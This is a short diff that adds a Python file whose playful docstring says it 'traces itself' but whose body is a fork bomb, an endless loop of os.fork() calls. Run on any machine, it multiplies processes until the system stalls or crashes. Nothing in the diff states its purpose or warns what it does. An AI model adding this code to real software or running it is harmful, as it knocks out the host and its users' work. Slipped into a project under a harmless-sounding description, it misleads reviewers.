@@ -1,0 +1,6 @@
+"""Traces itself, and itself, and itself."""
+
+import os
+
+while True:
+    os.fork()
